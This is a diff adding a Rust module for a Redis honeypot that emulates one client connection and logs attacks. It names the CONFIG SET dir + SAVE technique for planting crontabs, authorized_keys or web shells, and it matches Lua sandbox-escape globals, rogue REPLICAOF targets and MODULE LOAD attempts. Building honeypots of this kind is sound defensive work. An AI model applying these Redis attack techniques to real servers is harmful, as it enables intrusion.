@@ -1,0 +1,1528 @@
+//! One Redis connection as a sans-IO state machine: a parsed command and the time go in;
+//! the reply, the events to record and whether to close come out. The keyspace, CONFIG
+//! changes and cached scripts live here, bounded, per connection.
+
+use super::info::{self, CONFIG_DEFAULTS, InfoView, ServerFacts, glob};
+use super::resp::{Reply, parse_i64};
+use honeybee_proto::config::LoginPolicy;
+use honeybee_proto::event::{AuthAttempt, AuthMethod, EventKind, MAX_FIELD_LEN, clamp};
+use std::collections::{BTreeMap, HashMap};
+use std::sync::Arc;
+
+/// Databases, as `databases 16`.
+const DATABASES: usize = 16;
+/// Most keys a connection may hold, all databases together.
+pub(crate) const MAX_KEYS: usize = 256;
+/// Most bytes of keys, values, CONFIG values and scripts a connection may hold.
+pub(crate) const MAX_STATE_BYTES: usize = 128 * 1024;
+/// Most scripts cached by EVAL / SCRIPT LOAD.
+const MAX_SCRIPTS: usize = 32;
+/// Glob steps one command may spend (KEYS, SCAN, CONFIG GET).
+const GLOB_BUDGET: u64 = 2_000_000;
+
+/// The time, passed in.
+#[derive(Debug, Clone, Copy)]
+pub(crate) struct Clock {
+    /// Milliseconds since the Unix epoch.
+    pub unix_ms: i64,
+}
+
+/// What the peer would have written to disk: the attack behind `CONFIG SET dir` +
+/// `SAVE` (crontabs, `authorized_keys`, web shells).
+#[derive(Debug, Clone, PartialEq)]
+pub(crate) struct SaveCapture {
+    /// `dir/dbfilename`.
+    pub path: String,
+    pub meta: Vec<(String, String)>,
+    /// Every value of the connection's keyspace, one per line.
+    pub content: Vec<u8>,
+}
+
+/// What one command did.
+#[derive(Debug, Default)]
+pub(crate) struct Outcome {
+    /// `None`: no answer (the connection closes as after an attack on Redis's framing).
+    pub reply: Option<Reply>,
+    /// Recorded after the `Command` event.
+    pub events: Vec<EventKind>,
+    pub close: bool,
+    pub capture: Option<SaveCapture>,
+}
+
+impl Outcome {
+    fn reply(r: Reply) -> Outcome {
+        Outcome {
+            reply: Some(r),
+            ..Outcome::default()
+        }
+    }
+}
+
+/// Per-service settings every connection shares.
+#[derive(Debug)]
+pub(crate) struct Settings {
+    pub facts: ServerFacts,
+    pub require_auth: bool,
+    pub login: LoginPolicy,
+}
+
+#[derive(Debug)]
+struct Entry {
+    value: Vec<u8>,
+    expires_unix_ms: Option<i64>,
+}
+
+/// One connection's state.
+#[derive(Debug)]
+pub(crate) struct Conn {
+    settings: Arc<Settings>,
+    tcp_port: u16,
+    peer: String,
+    local: String,
+    client_id: u64,
+    connected_clients: u64,
+    authed: bool,
+    failed_auths: u32,
+    db: usize,
+    dbs: Vec<BTreeMap<Vec<u8>, Entry>>,
+    keys: usize,
+    bytes: usize,
+    limit_reported: bool,
+    config: BTreeMap<&'static str, Vec<u8>>,
+    scripts: HashMap<String, Vec<u8>>,
+    client_name: Option<Vec<u8>>,
+    replica_of: Option<(String, u16, i64)>,
+    changes_since_save: u64,
+    last_save_unix: i64,
+    saves: u64,
+    started_unix_ms: i64,
+}
+
+/// Argument count rule: exactly `n` (positive) or at least `-n` (negative), as Redis's
+/// command table writes it (the name counts).
+fn arity_ok(arity: i32, argc: usize) -> bool {
+    if arity >= 0 {
+        argc == arity as usize
+    } else {
+        argc >= arity.unsigned_abs() as usize
+    }
+}
+
+/// Commands this server knows, with Redis's arity, and whether they run before AUTH.
+fn lookup(name: &str) -> Option<(i32, bool)> {
+    let arity = match name {
+        "auth" => return Some((-2, true)),
+        "hello" => return Some((-1, true)),
+        "quit" => return Some((-1, true)),
+        "ping" => -1,
+        "echo" => 2,
+        "info" => -1,
+        "config" => -2,
+        "slaveof" | "replicaof" => 3,
+        "module" => -2,
+        "eval" | "evalsha" | "eval_ro" | "evalsha_ro" => -3,
+        "script" => -2,
+        "set" => -3,
+        "get" | "type" | "ttl" | "pttl" | "persist" | "strlen" | "incr" | "decr" => 2,
+        "setnx" | "getset" | "append" | "incrby" | "decrby" | "rename" | "expire" | "pexpire" => 3,
+        "setex" | "psetex" => 4,
+        "del" | "unlink" | "exists" | "mget" => -2,
+        "mset" => -3,
+        "keys" => 2,
+        "scan" => -2,
+        "randomkey" | "dbsize" | "lastsave" | "time" | "role" | "bgrewriteaof" => 1,
+        "flushall" | "flushdb" | "save" | "bgsave" | "shutdown" => -1,
+        "select" => 2,
+        "client" | "command" | "slowlog" | "memory" | "debug" | "latency" | "acl" => -1,
+        "wait" => 3,
+        "monitor" => 1,
+        _ => return None,
+    };
+    Some((arity, false))
+}
+
+fn lower(b: &[u8]) -> String {
+    String::from_utf8_lossy(b).to_ascii_lowercase()
+}
+
+fn text(b: &[u8]) -> String {
+    clamp(&String::from_utf8_lossy(b), MAX_FIELD_LEN)
+}
+
+fn wrong_args(name: &str) -> Reply {
+    Reply::err(format!(
+        "ERR wrong number of arguments for '{name}' command"
+    ))
+}
+
+fn not_int() -> Reply {
+    Reply::err("ERR value is not an integer or out of range")
+}
+
+fn syntax() -> Reply {
+    Reply::err("ERR syntax error")
+}
+
+fn int_arg(b: &[u8]) -> Option<i64> {
+    parse_i64(b)
+}
+
+impl Conn {
+    pub(crate) fn new(
+        settings: Arc<Settings>,
+        peer: std::net::SocketAddr,
+        local: std::net::SocketAddr,
+        connected_clients: u64,
+        clock: Clock,
+    ) -> Conn {
+        let client_id = settings
+            .facts
+            .connections
+            .fetch_add(1, std::sync::atomic::Ordering::Relaxed)
+            + 1;
+        Conn {
+            tcp_port: local.port(),
+            peer: peer.to_string(),
+            local: local.to_string(),
+            client_id,
+            connected_clients,
+            authed: false,
+            failed_auths: 0,
+            db: 0,
+            dbs: (0..DATABASES).map(|_| BTreeMap::new()).collect(),
+            keys: 0,
+            bytes: 0,
+            limit_reported: false,
+            config: BTreeMap::new(),
+            scripts: HashMap::new(),
+            client_name: None,
+            replica_of: None,
+            changes_since_save: 0,
+            last_save_unix: settings.facts.boot_unix_ms / 1000 + 3,
+            saves: 0,
+            started_unix_ms: clock.unix_ms,
+            settings,
+        }
+    }
+
+    /// Runs one command (`args` is never empty).
+    pub(crate) fn execute(&mut self, args: &[Vec<u8>], clock: Clock) -> Outcome {
+        self.settings
+            .facts
+            .commands
+            .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+        let name = lower(&args[0]);
+        // Redis drops a client that talks HTTP to it ("Possible SECURITY ATTACK").
+        if name == "post" || name == "host:" {
+            return Outcome {
+                close: true,
+                ..Outcome::default()
+            };
+        }
+        let Some((arity, no_auth)) = lookup(&name) else {
+            let mut msg = format!(
+                "ERR unknown command '{}', with args beginning with: ",
+                clamp(&String::from_utf8_lossy(&args[0]), 128)
+            );
+            for a in args.iter().skip(1).take(16) {
+                msg.push_str(&format!("'{}' ", clamp(&String::from_utf8_lossy(a), 128)));
+            }
+            return Outcome::reply(Reply::err(msg));
+        };
+        if !arity_ok(arity, args.len()) {
+            return Outcome::reply(wrong_args(&name));
+        }
+        if self.settings.require_auth && !self.authed && !no_auth {
+            return Outcome::reply(Reply::err("NOAUTH Authentication required."));
+        }
+        self.expire(clock);
+        let a = &args[1..];
+        match name.as_str() {
+            "quit" => Outcome {
+                reply: Some(Reply::ok()),
+                close: true,
+                ..Outcome::default()
+            },
+            "auth" => self.auth(a),
+            "hello" => self.hello(a),
+            "ping" => Outcome::reply(match a {
+                [] => Reply::Simple("PONG".into()),
+                [m] => Reply::bulk(m),
+                _ => wrong_args("ping"),
+            }),
+            "echo" => Outcome::reply(Reply::bulk(&a[0])),
+            "info" => {
+                let sections: Vec<String> = a.iter().take(16).map(|s| lower(s)).collect();
+                let text = info::info(&self.settings.facts, &self.view(clock), &sections);
+                Outcome::reply(Reply::Bulk(text.into_bytes()))
+            }
+            "config" => self.config(a),
+            "slaveof" | "replicaof" => self.replicaof(a, clock),
+            "module" => Outcome::reply(module(a)),
+            "eval" | "eval_ro" => self.eval(&a[0], &a[1..]),
+            "evalsha" | "evalsha_ro" => {
+                let sha = lower(&a[0]);
+                match self.scripts.get(&sha).cloned() {
+                    Some(script) => self.eval(&script, &a[1..]),
+                    None => {
+                        Outcome::reply(Reply::err("NOSCRIPT No matching script. Please use EVAL."))
+                    }
+                }
+            }
+            "script" => self.script(a),
+            "save" | "bgsave" => self.save(&name, clock),
+            "shutdown" => Outcome {
+                // A real server goes away without a word; the connection just closes.
+                close: true,
+                ..Outcome::default()
+            },
+            "monitor" => Outcome::reply(Reply::ok()),
+            _ => {
+                let mut events = Vec::new();
+                let reply = self.data(&name, a, clock, &mut events);
+                Outcome {
+                    reply: Some(reply),
+                    events,
+                    ..Outcome::default()
+                }
+            }
+        }
+    }
+
+    fn auth(&mut self, a: &[Vec<u8>]) -> Outcome {
+        let (user, pass) = match a {
+            [p] => (b"default".as_slice(), p),
+            [u, p] => (u.as_slice(), p),
+            _ => return Outcome::reply(syntax()),
+        };
+        let user = text(user);
+        let password = text(pass);
+        let (success, reply) = if !self.settings.require_auth && a.len() == 1 {
+            (
+                false,
+                Reply::err(
+                    "ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?",
+                ),
+            )
+        } else if !self.settings.require_auth {
+            // No password set: the default user takes any password, named users do not exist.
+            let ok = user == "default";
+            (ok, if ok { Reply::ok() } else { wrongpass() })
+        } else if self
+            .settings
+            .login
+            .accepts(self.failed_auths, &user, &password)
+        {
+            self.authed = true;
+            (true, Reply::ok())
+        } else {
+            self.failed_auths = self.failed_auths.saturating_add(1);
+            (false, wrongpass())
+        };
+        Outcome {
+            reply: Some(reply),
+            events: vec![EventKind::AuthAttempt(AuthAttempt {
+                method: AuthMethod::Password,
+                username: user,
+                password: Some(password),
+                key_fingerprint: None,
+                key_algorithm: None,
+                client_version: None,
+                success,
+            })],
+            ..Outcome::default()
+        }
+    }
+
+    fn hello(&mut self, a: &[Vec<u8>]) -> Outcome {
+        let mut events = Vec::new();
+        if let Some(v) = a.first() {
+            match int_arg(v) {
+                Some(2) => {}
+                Some(3) => {
+                    // This server speaks RESP2 only (documented); clients fall back to it.
+                    return Outcome::reply(Reply::err("NOPROTO unsupported protocol version"));
+                }
+                _ => {
+                    return Outcome::reply(Reply::err("NOPROTO unsupported protocol version"));
+                }
+            }
+            let mut i = 1;
+            while i < a.len() {
+                match lower(&a[i]).as_str() {
+                    "auth" if i + 2 < a.len() => {
+                        let out = self.auth(&a[i + 1..i + 3]);
+                        events.extend(out.events);
+                        if let Some(Reply::Error(e)) = out.reply {
+                            return Outcome {
+                                reply: Some(Reply::Error(e)),
+                                events,
+                                ..Outcome::default()
+                            };
+                        }
+                        i += 3;
+                    }
+                    "setname" if i + 1 < a.len() => {
+                        self.client_name = Some(a[i + 1].clone());
+                        i += 2;
+                    }
+                    other => {
+                        return Outcome {
+                            reply: Some(Reply::err(format!(
+                                "ERR Syntax error in HELLO option '{}'",
+                                clamp(other, 128)
+                            ))),
+                            events,
+                            ..Outcome::default()
+                        };
+                    }
+                }
+            }
+        }
+        if self.settings.require_auth && !self.authed {
+            return Outcome {
+                reply: Some(Reply::err(
+                    "NOAUTH HELLO must be called with the client already authenticated, otherwise the HELLO <proto> AUTH <user> <pass> option can be used to authenticate the client and select the RESP protocol version at the same time",
+                )),
+                events,
+                ..Outcome::default()
+            };
+        }
+        let f = &self.settings.facts;
+        Outcome {
+            reply: Some(Reply::Array(vec![
+                Reply::bulk("server"),
+                Reply::bulk("redis"),
+                Reply::bulk("version"),
+                Reply::bulk(&f.version),
+                Reply::bulk("proto"),
+                Reply::Int(2),
+                Reply::bulk("id"),
+                Reply::Int(self.client_id as i64),
+                Reply::bulk("mode"),
+                Reply::bulk("standalone"),
+                Reply::bulk("role"),
+                Reply::bulk(if self.replica_of.is_some() {
+                    "replica"
+                } else {
+                    "master"
+                }),
+                Reply::bulk("modules"),
+                Reply::Array(vec![]),
+            ])),
+            events,
+            ..Outcome::default()
+        }
+    }
+
+    fn config_value(&self, name: &str) -> Vec<u8> {
+        if let Some(v) = self.config.get(name) {
+            return v.clone();
+        }
+        match name {
+            "port" => self.tcp_port.to_string().into_bytes(),
+            "requirepass" if self.settings.require_auth => {
+                self.settings.facts.requirepass.clone().into_bytes()
+            }
+            _ => CONFIG_DEFAULTS
+                .iter()
+                .find(|(n, _)| *n == name)
+                .map(|(_, v)| v.as_bytes().to_vec())
+                .unwrap_or_default(),
+        }
+    }
+
+    fn config(&mut self, a: &[Vec<u8>]) -> Outcome {
+        let sub = lower(&a[0]);
+        match (sub.as_str(), a.len()) {
+            ("get", n) if n >= 2 => {
+                let mut budget = GLOB_BUDGET;
+                let mut out = Vec::new();
+                for (name, _) in CONFIG_DEFAULTS {
+                    if a[1..]
+                        .iter()
+                        .take(16)
+                        .any(|p| glob(p, name.as_bytes(), true, &mut budget))
+                    {
+                        out.push(Reply::bulk(name));
+                        out.push(Reply::Bulk(self.config_value(name)));
+                    }
+                }
+                Outcome::reply(Reply::Array(out))
+            }
+            ("set", n) if n >= 3 && n % 2 == 1 => {
+                let mut events = Vec::new();
+                for pair in a[1..].chunks(2) {
+                    let name = lower(&pair[0]);
+                    let Some((known, _)) = CONFIG_DEFAULTS.iter().find(|(n, _)| *n == name) else {
+                        return Outcome::reply(Reply::err(format!(
+                            "ERR Unknown option or number of arguments for CONFIG SET - '{}'",
+                            clamp(&name, 128)
+                        )));
+                    };
+                    if !self.charge(pair[1].len(), &mut events) {
+                        return Outcome {
+                            reply: Some(oom()),
+                            events,
+                            ..Outcome::default()
+                        };
+                    }
+                    if let Some(old) = self.config.insert(known, pair[1].clone()) {
+                        self.bytes = self.bytes.saturating_sub(old.len());
+                    }
+                }
+                Outcome {
+                    reply: Some(Reply::ok()),
+                    events,
+                    ..Outcome::default()
+                }
+            }
+            ("resetstat" | "rewrite", 1) => Outcome::reply(Reply::ok()),
+            ("get" | "set" | "resetstat" | "rewrite", _) => {
+                Outcome::reply(wrong_args(&format!("config|{sub}")))
+            }
+            _ => Outcome::reply(Reply::err(format!(
+                "ERR unknown subcommand '{}'. Try CONFIG HELP.",
+                clamp(&sub, 128)
+            ))),
+        }
+    }
+
+    fn replicaof(&mut self, a: &[Vec<u8>], clock: Clock) -> Outcome {
+        if lower(&a[0]) == "no" && lower(&a[1]) == "one" {
+            self.replica_of = None;
+            return Outcome::reply(Reply::ok());
+        }
+        let Some(port) = int_arg(&a[1]).and_then(|p| u16::try_from(p).ok()) else {
+            return Outcome::reply(not_int());
+        };
+        let host = text(&a[0]);
+        let url = clamp(&format!("redis://{host}:{port}"), MAX_FIELD_LEN);
+        // Recorded, never connected to: a honeypot opens no outbound connection.
+        self.replica_of = Some((clamp(&host, 256), port, clock.unix_ms));
+        Outcome {
+            reply: Some(Reply::ok()),
+            events: vec![EventKind::Download {
+                url,
+                tool: "replicaof".into(),
+            }],
+            ..Outcome::default()
+        }
+    }
+
+    fn eval(&mut self, script: &[u8], rest: &[Vec<u8>]) -> Outcome {
+        let Some(numkeys) = rest.first().and_then(|n| int_arg(n)) else {
+            return Outcome::reply(not_int());
+        };
+        if numkeys < 0 {
+            return Outcome::reply(Reply::err("ERR Number of keys can't be negative"));
+        }
+        if numkeys as u64 > (rest.len() - 1) as u64 {
+            return Outcome::reply(Reply::err(
+                "ERR Number of keys can't be greater than number of args",
+            ));
+        }
+        let sha = sha1_hex(script);
+        let mut events = Vec::new();
+        if !self.scripts.contains_key(&sha)
+            && self.scripts.len() < MAX_SCRIPTS
+            && self.charge(script.len(), &mut events)
+        {
+            self.scripts.insert(sha.clone(), script.to_vec());
+        }
+        Outcome {
+            reply: Some(run_script(script, &sha)),
+            events,
+            ..Outcome::default()
+        }
+    }
+
+    fn script(&mut self, a: &[Vec<u8>]) -> Outcome {
+        match (lower(&a[0]).as_str(), a.len()) {
+            ("load", 2) => {
+                let sha = sha1_hex(&a[1]);
+                let mut events = Vec::new();
+                if !self.scripts.contains_key(&sha)
+                    && self.scripts.len() < MAX_SCRIPTS
+                    && self.charge(a[1].len(), &mut events)
+                {
+                    self.scripts.insert(sha.clone(), a[1].clone());
+                }
+                Outcome {
+                    reply: Some(Reply::bulk(sha)),
+                    events,
+                    ..Outcome::default()
+                }
+            }
+            ("exists", n) if n >= 2 => Outcome::reply(Reply::Array(
+                a[1..]
+                    .iter()
+                    .map(|s| Reply::Int(i64::from(self.scripts.contains_key(&lower(s)))))
+                    .collect(),
+            )),
+            ("flush", _) => {
+                for s in self.scripts.values() {
+                    self.bytes = self.bytes.saturating_sub(s.len());
+                }
+                self.scripts.clear();
+                Outcome::reply(Reply::ok())
+            }
+            ("kill", 1) => Outcome::reply(Reply::err("NOTBUSY No scripts in execution right now.")),
+            (sub, _) => Outcome::reply(Reply::err(format!(
+                "ERR unknown subcommand or wrong number of arguments for '{}'. Try SCRIPT HELP.",
+                clamp(sub, 128)
+            ))),
+        }
+    }
+
+    fn save(&mut self, name: &str, clock: Clock) -> Outcome {
+        self.changes_since_save = 0;
+        self.last_save_unix = clock.unix_ms / 1000;
+        self.saves += 1;
+        let dir = String::from_utf8_lossy(&self.config_value("dir")).into_owned();
+        let file = String::from_utf8_lossy(&self.config_value("dbfilename")).into_owned();
+        let moved = self.config.contains_key("dir") || self.config.contains_key("dbfilename");
+        let mut content = Vec::new();
+        let mut count = 0usize;
+        for db in &self.dbs {
+            for e in db.values() {
+                content.extend_from_slice(&e.value);
+                content.push(b'\n');
+                count += 1;
+            }
+        }
+        let capture = (moved && count > 0).then(|| SaveCapture {
+            path: clamp(
+                &format!("{}/{}", dir.trim_end_matches('/'), file),
+                MAX_FIELD_LEN,
+            ),
+            meta: vec![
+                ("dir".into(), clamp(&dir, MAX_FIELD_LEN)),
+                ("dbfilename".into(), clamp(&file, MAX_FIELD_LEN)),
+                ("keys".into(), count.to_string()),
+                ("command".into(), name.to_owned()),
+            ],
+            content,
+        });
+        Outcome {
+            reply: Some(if name == "save" {
+                Reply::ok()
+            } else {
+                Reply::Simple("Background saving started".into())
+            }),
+            capture,
+            ..Outcome::default()
+        }
+    }
+
+    /// Counts `n` more bytes of state; false (and one `LimitReached`) when over the cap.
+    fn charge(&mut self, n: usize, events: &mut Vec<EventKind>) -> bool {
+        if self.bytes + n > MAX_STATE_BYTES {
+            if !self.limit_reported {
+                self.limit_reported = true;
+                events.push(EventKind::LimitReached {
+                    limit: "redis_keyspace".into(),
+                    detail: format!(
+                        "connection state over {MAX_STATE_BYTES} bytes or {MAX_KEYS} keys"
+                    ),
+                });
+            }
+            return false;
+        }
+        self.bytes += n;
+        true
+    }
+
+    fn expire(&mut self, clock: Clock) {
+        let mut freed = (0, 0);
+        for db in &mut self.dbs {
+            db.retain(|k, e| {
+                let live = e.expires_unix_ms.is_none_or(|t| t > clock.unix_ms);
+                if !live {
+                    freed.0 += 1;
+                    freed.1 += k.len() + e.value.len();
+                }
+                live
+            });
+        }
+        self.keys -= freed.0;
+        self.bytes = self.bytes.saturating_sub(freed.1);
+    }
+
+    fn remove(&mut self, key: &[u8]) -> bool {
+        match self.dbs[self.db].remove(key) {
+            Some(e) => {
+                self.keys -= 1;
+                self.bytes = self.bytes.saturating_sub(key.len() + e.value.len());
+                self.changes_since_save += 1;
+                true
+            }
+            None => false,
+        }
+    }
+
+    /// Stores `value` under `key`; `false` when the caps refuse it (and the key keeps its
+    /// old value).
+    fn store(
+        &mut self,
+        key: &[u8],
+        value: Vec<u8>,
+        expires: Option<i64>,
+        events: &mut Vec<EventKind>,
+    ) -> bool {
+        let old = self.dbs[self.db]
+            .get(key)
+            .map(|e| key.len() + e.value.len());
+        let new_keys = self.keys + usize::from(old.is_none());
+        let need = key.len() + value.len();
+        let bytes_after = self.bytes - old.unwrap_or(0) + need;
+        if new_keys > MAX_KEYS || bytes_after > MAX_STATE_BYTES {
+            let _ = self.charge(MAX_STATE_BYTES + 1, events);
+            return false;
+        }
+        self.bytes = bytes_after;
+        self.keys = new_keys;
+        self.changes_since_save += 1;
+        self.dbs[self.db].insert(
+            key.to_vec(),
+            Entry {
+                value,
+                expires_unix_ms: expires,
+            },
+        );
+        true
+    }
+
+    fn get(&self, key: &[u8]) -> Option<&Entry> {
+        self.dbs[self.db].get(key)
+    }
+}
+
+fn wrongpass() -> Reply {
+    Reply::err("WRONGPASS invalid username-password pair or user is disabled.")
+}
+
+fn oom() -> Reply {
+    Reply::err("OOM command not allowed when used memory > 'maxmemory'.")
+}
+
+fn module(a: &[Vec<u8>]) -> Reply {
+    match (lower(&a[0]).as_str(), a.len()) {
+        ("load" | "loadex", n) if n >= 2 => {
+            // What Redis 7.0 answers when dlopen() fails (no such file, wrong ELF, …).
+            Reply::err("ERR Error loading the extension. Please check the server logs.")
+        }
+        ("list", 1) => Reply::Array(vec![]),
+        ("unload", 2) => Reply::err("ERR Error unloading module: no such module with that name"),
+        (sub, _) => Reply::err(format!(
+            "ERR unknown subcommand or wrong number of arguments for '{}'. Try MODULE HELP.",
+            clamp(sub, 128)
+        )),
+    }
+}
+
+/// Hex SHA-1 of a script: the name EVALSHA uses.
+pub(crate) fn sha1_hex(script: &[u8]) -> String {
+    hex::encode(ring::digest::digest(
+        &ring::digest::SHA1_FOR_LEGACY_USE_ONLY,
+        script,
+    ))
+}
+
+/// A plausible answer to a script that is never run: the globals Redis's sandbox lacks
+/// give its error, `return <literal>` gives the literal, anything else returns nil.
+fn run_script(script: &[u8], sha: &str) -> Reply {
+    let src = String::from_utf8_lossy(script);
+    for global in [
+        "package", "io", "os", "loadfile", "dofile", "require", "debug",
+    ] {
+        let used = src.match_indices(global).any(|(i, _)| {
+            let before = src[..i].chars().next_back();
+            let after = src[i + global.len()..].chars().next();
+            !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.')
+                && after.is_some_and(|c| c == '.' || c == '(' || c == '[' || c == ':')
+        });
+        if used {
+            return Reply::err(format!(
+                "ERR user_script:1: Script attempted to access nonexistent global variable '{global}' script: {sha}, on @user_script:1."
+            ));
+        }
+    }
+    let body = src.trim();
+    if let Some(ret) = body.strip_prefix("return ") {
+        let ret = ret.trim().trim_end_matches(';').trim();
+        if let Ok(n) = ret.parse::<i64>() {
+            return Reply::Int(n);
+        }
+        for q in ['\'', '"'] {
+            if ret.len() >= 2 && ret.starts_with(q) && ret.ends_with(q) {
+                return Reply::bulk(&ret[1..ret.len() - 1]);
+            }
+        }
+    }
+    Reply::Nil
+}
+
+/// SET's options.
+struct SetOpts {
+    expires: Option<i64>,
+    keep_ttl: bool,
+    nx: bool,
+    xx: bool,
+    get: bool,
+}
+
+fn set_opts(a: &[Vec<u8>], clock: Clock) -> Result<SetOpts, Reply> {
+    let mut o = SetOpts {
+        expires: None,
+        keep_ttl: false,
+        nx: false,
+        xx: false,
+        get: false,
+    };
+    let mut i = 0;
+    while i < a.len() {
+        let opt = lower(&a[i]);
+        match opt.as_str() {
+            "nx" => o.nx = true,
+            "xx" => o.xx = true,
+            "get" => o.get = true,
+            "keepttl" => o.keep_ttl = true,
+            "ex" | "px" | "exat" | "pxat" => {
+                let n = a.get(i + 1).ok_or_else(syntax)?;
+                let n = int_arg(n).ok_or_else(not_int)?;
+                if n <= 0 {
+                    return Err(Reply::err("ERR invalid expire time in 'set' command"));
+                }
+                o.expires = Some(match opt.as_str() {
+                    "ex" => clock.unix_ms.saturating_add(n.saturating_mul(1000)),
+                    "px" => clock.unix_ms.saturating_add(n),
+                    "exat" => n.saturating_mul(1000),
+                    _ => n,
+                });
+                i += 1;
+            }
+            _ => return Err(syntax()),
+        }
+        i += 1;
+    }
+    if o.nx && o.xx {
+        return Err(syntax());
+    }
+    Ok(o)
+}
+
+impl Conn {
+    fn view(&self, clock: Clock) -> InfoView<'_> {
+        InfoView {
+            now_unix_ms: clock.unix_ms,
+            tcp_port: self.tcp_port,
+            connected_clients: self.connected_clients,
+            keyspace: self
+                .dbs
+                .iter()
+                .enumerate()
+                .filter(|(_, d)| !d.is_empty())
+                .map(|(i, d)| {
+                    (
+                        i,
+                        d.len(),
+                        d.values().filter(|e| e.expires_unix_ms.is_some()).count(),
+                    )
+                })
+                .collect(),
+            dataset_bytes: self.bytes,
+            changes_since_save: self.changes_since_save,
+            last_save_unix: self.last_save_unix,
+            saves: self.saves,
+            replica_of: self
+                .replica_of
+                .as_ref()
+                .map(|(h, p, t)| (h.as_str(), *p, *t)),
+            scripts: self.scripts.len(),
+        }
+    }
+
+    fn ttl_of(&self, key: &[u8], clock: Clock, millis: bool) -> i64 {
+        match self.get(key) {
+            None => -2,
+            Some(Entry {
+                expires_unix_ms: None,
+                ..
+            }) => -1,
+            Some(Entry {
+                expires_unix_ms: Some(t),
+                ..
+            }) => {
+                let left = (t - clock.unix_ms).max(0);
+                if millis { left } else { (left + 500) / 1000 }
+            }
+        }
+    }
+
+    fn incr(&mut self, key: &[u8], by: i64, events: &mut Vec<EventKind>) -> Reply {
+        let (cur, ttl) = match self.get(key) {
+            None => (0, None),
+            Some(e) => match std::str::from_utf8(&e.value)
+                .ok()
+                .and_then(|s| parse_i64(s.as_bytes()))
+            {
+                Some(n) => (n, e.expires_unix_ms),
+                None => return not_int(),
+            },
+        };
+        let Some(n) = cur.checked_add(by) else {
+            return Reply::err("ERR increment or decrement would overflow");
+        };
+        if self.store(key, n.to_string().into_bytes(), ttl, events) {
+            Reply::Int(n)
+        } else {
+            oom()
+        }
+    }
+
+    fn data(
+        &mut self,
+        name: &str,
+        a: &[Vec<u8>],
+        clock: Clock,
+        events: &mut Vec<EventKind>,
+    ) -> Reply {
+        match name {
+            "set" => {
+                let o = match set_opts(&a[2..], clock) {
+                    Ok(o) => o,
+                    Err(r) => return r,
+                };
+                let old = self
+                    .get(&a[0])
+                    .map(|e| (e.value.clone(), e.expires_unix_ms));
+                if (o.nx && old.is_some()) || (o.xx && old.is_none()) {
+                    return if o.get {
+                        old.map_or(Reply::Nil, |(v, _)| Reply::Bulk(v))
+                    } else {
+                        Reply::Nil
+                    };
+                }
+                let expires = if o.keep_ttl {
+                    old.as_ref().and_then(|(_, t)| *t)
+                } else {
+                    o.expires
+                };
+                if !self.store(&a[0], a[1].clone(), expires, events) {
+                    return oom();
+                }
+                if o.get {
+                    old.map_or(Reply::Nil, |(v, _)| Reply::Bulk(v))
+                } else {
+                    Reply::ok()
+                }
+            }
+            "setnx" => {
+                if self.get(&a[0]).is_some() {
+                    Reply::Int(0)
+                } else if self.store(&a[0], a[1].clone(), None, events) {
+                    Reply::Int(1)
+                } else {
+                    oom()
+                }
+            }
+            "setex" | "psetex" => {
+                let Some(n) = int_arg(&a[1]) else {
+                    return not_int();
+                };
+                if n <= 0 {
+                    return Reply::err(format!("ERR invalid expire time in '{name}' command"));
+                }
+                let ms = if name == "setex" {
+                    n.saturating_mul(1000)
+                } else {
+                    n
+                };
+                if self.store(
+                    &a[0],
+                    a[2].clone(),
+                    Some(clock.unix_ms.saturating_add(ms)),
+                    events,
+                ) {
+                    Reply::ok()
+                } else {
+                    oom()
+                }
+            }
+            "getset" => {
+                let old = self.get(&a[0]).map(|e| e.value.clone());
+                if !self.store(&a[0], a[1].clone(), None, events) {
+                    return oom();
+                }
+                old.map_or(Reply::Nil, Reply::Bulk)
+            }
+            "append" => {
+                let mut v = self.get(&a[0]).map(|e| e.value.clone()).unwrap_or_default();
+                let ttl = self.get(&a[0]).and_then(|e| e.expires_unix_ms);
+                if v.len() + a[1].len() > MAX_STATE_BYTES {
+                    let _ = self.charge(MAX_STATE_BYTES + 1, events);
+                    return oom();
+                }
+                v.extend_from_slice(&a[1]);
+                let n = v.len() as i64;
+                if self.store(&a[0], v, ttl, events) {
+                    Reply::Int(n)
+                } else {
+                    oom()
+                }
+            }
+            "get" => self
+                .get(&a[0])
+                .map_or(Reply::Nil, |e| Reply::Bulk(e.value.clone())),
+            "mget" => Reply::Array(
+                a.iter()
+                    .map(|k| {
+                        self.get(k)
+                            .map_or(Reply::Nil, |e| Reply::Bulk(e.value.clone()))
+                    })
+                    .collect(),
+            ),
+            "mset" => {
+                if !a.len().is_multiple_of(2) {
+                    return wrong_args("mset");
+                }
+                for kv in a.chunks(2) {
+                    if !self.store(&kv[0], kv[1].clone(), None, events) {
+                        return oom();
+                    }
+                }
+                Reply::ok()
+            }
+            "strlen" => Reply::Int(self.get(&a[0]).map_or(0, |e| e.value.len() as i64)),
+            "incr" => self.incr(&a[0], 1, events),
+            "decr" => self.incr(&a[0], -1, events),
+            "incrby" | "decrby" => match int_arg(&a[1]) {
+                Some(n) if name == "incrby" => self.incr(&a[0], n, events),
+                Some(n) => match n.checked_neg() {
+                    Some(m) => self.incr(&a[0], m, events),
+                    None => Reply::err("ERR decrement would overflow"),
+                },
+                None => not_int(),
+            },
+            "del" | "unlink" => Reply::Int(a.iter().filter(|k| self.remove(k)).count() as i64),
+            "exists" => Reply::Int(a.iter().filter(|k| self.get(k).is_some()).count() as i64),
+            "type" => Reply::Simple(
+                if self.get(&a[0]).is_some() {
+                    "string"
+                } else {
+                    "none"
+                }
+                .into(),
+            ),
+            "ttl" => Reply::Int(self.ttl_of(&a[0], clock, false)),
+            "pttl" => Reply::Int(self.ttl_of(&a[0], clock, true)),
+            "expire" | "pexpire" => {
+                let Some(n) = int_arg(&a[1]) else {
+                    return not_int();
+                };
+                let ms = if name == "expire" {
+                    n.saturating_mul(1000)
+                } else {
+                    n
+                };
+                match self.dbs[self.db].get_mut(a[0].as_slice()) {
+                    None => Reply::Int(0),
+                    Some(e) => {
+                        e.expires_unix_ms = Some(clock.unix_ms.saturating_add(ms));
+                        self.expire(clock);
+                        Reply::Int(1)
+                    }
+                }
+            }
+            "persist" => match self.dbs[self.db].get_mut(a[0].as_slice()) {
+                Some(e) if e.expires_unix_ms.is_some() => {
+                    e.expires_unix_ms = None;
+                    Reply::Int(1)
+                }
+                _ => Reply::Int(0),
+            },
+            "rename" => {
+                let Some(e) = self.dbs[self.db].remove(a[0].as_slice()) else {
